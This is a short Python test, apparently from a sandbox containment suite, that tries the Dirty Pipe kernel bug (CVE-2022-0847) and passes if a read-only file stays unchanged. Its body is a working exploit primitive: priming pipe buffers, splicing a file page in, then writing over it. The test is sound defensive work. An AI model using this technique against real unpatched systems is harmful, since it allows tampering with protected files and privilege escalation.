# SPDX-License-Identifier: Apache-2.0
# source: CVE-2022-0847 (Dirty Pipe): a page of a read-only file, spliced into a pipe, written to
# stopped-by: kernel
# alone: mended in Linux 5.16.11; before that every file that can be read could be written
# expect: unchanged
# args: --ro {data}
import ctypes
import fcntl
import os
import kit

path = kit.view() + "/data"
before = kit.read(path)
reader, writer = os.pipe()
size = fcntl.fcntl(writer, 1032)  # F_GETPIPE_SZ
for _ in range(2):  # fill and drain: on an old kernel each slot keeps its "may be merged" flag
    left = size
    while left:
        left -= os.write(writer, bytes(min(left, 4096))) if _ == 0 else \
            len(os.read(reader, min(left, 4096)))
source = os.open(path, os.O_RDONLY)
offset = ctypes.c_longlong(0)
if kit.libc.splice(source, ctypes.byref(offset), writer, None, 1, 0) != 1:
    kit.held(kit.name_of(ctypes.get_errno()))
os.write(writer, b"overwritten")
if kit.read(path) != before:
    kit.escaped("wrote to a read-only file")
kit.held("unchanged")
